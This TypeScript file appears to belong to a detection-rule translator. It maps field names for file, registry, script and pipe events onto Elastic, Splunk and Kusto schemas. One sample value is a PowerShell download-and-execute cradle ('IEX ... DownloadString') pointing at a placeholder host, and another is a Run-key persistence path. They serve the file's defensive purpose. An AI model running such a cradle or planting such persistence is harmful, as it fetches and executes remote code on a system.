import type { FieldRow } from './types.js'

/** Files, the registry and scripts. */
export const fileFields: readonly FieldRow[] = [
  {
    name: 'TargetFilename',
    type: 'path',
    sample: 'C:\\Users\\Public\\a.exe',
    elastic: 'file.path file.name:basename file.directory:dirname file.extension:ext',
    splunk:
      'Filesystem.file_path Filesystem.file_name:basename file_path file_name:basename object_file_path object_file_name:basename',
    kusto:
      'FolderPath@DeviceFileEvents FileName@DeviceFileEvents:basename FolderPath@DeviceEvents FileName@DeviceEvents:basename TargetFilePath@asim.file FilePath@asim.file TargetFileName@asim.file:basename FileName@asim.file:basename TargetFileDirectory@asim.file:dirname TargetFileExtension@asim.file:ext',
  },
  {
    name: 'SourceFilename',
    type: 'path',
    sample: 'C:\\Users\\Public\\a.tmp',
    elastic: 'file.Ext.original.path file.Ext.original.name:basename file.Ext.original.extension:ext',
    kusto:
      'PreviousFileName@DeviceFileEvents:basename PreviousFolderPath@DeviceFileEvents:dirname SrcFilePath@asim.file SrcFileName@asim.file:basename',
  },
  {
    name: 'TargetObject',
    type: 'registry',
    sample: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
    elastic: 'registry.path registry.value:leaf registry.key:subkey',
    splunk:
      'Registry.registry_path registry_path Registry.registry_key_name:key registry_key_name:key Registry.registry_value_name:leaf registry_value_name:leaf',
    kusto:
      'RegistryKey:key RegistryValueName:leaf RegistryValue@asim.registry:leaf PreviousRegistryKey:old PreviousRegistryValueName:old RegistryPreviousKey@asim.registry:old RegistryPreviousValue@asim.registry:old',
  },
  {
    name: 'Details',
    type: 'details',
    sample: 'DWORD (0x00000001)',
    elastic: 'registry.data.strings',
    splunk:
      'Registry.registry_value_data registry_value_data Registry.registry_value_text:approx registry_value_text:approx',
    kusto: 'RegistryValueData PreviousRegistryValueData:old RegistryPreviousValueData@asim.registry:old',
  },
  {
    name: 'ScriptBlockText',
    type: 'text',
    sample: 'IEX (New-Object Net.WebClient).DownloadString("http://example.org/a")',
    elastic: 'powershell.file.script_block_text powershell.file.script_block_text@kuery:word',
    splunk: 'ScriptBlock_Text Message@powershell:approx',
    // The commands that a script runs, not its text.
    kusto:
      'AdditionalFields.Command@DeviceEvents:approx AdditionalFields.ScriptContent@DeviceEvents EventData.ScriptBlockText@WindowsEvent',
  },
  {
    name: 'PipeName',
    type: 'text',
    sample: '\\\\lsarpc',
    // With the device before it.
    kusto: 'AdditionalFields.PipeName@DeviceEvents:approx',
  },
  { name: 'file.origin_url', type: 'text', sample: 'https://example.org/a.zip', kusto: 'FileOriginUrl' },
  { name: 'file.origin_referrer_url', type: 'text', sample: 'https://example.org/', kusto: 'FileOriginReferrerUrl' },
]
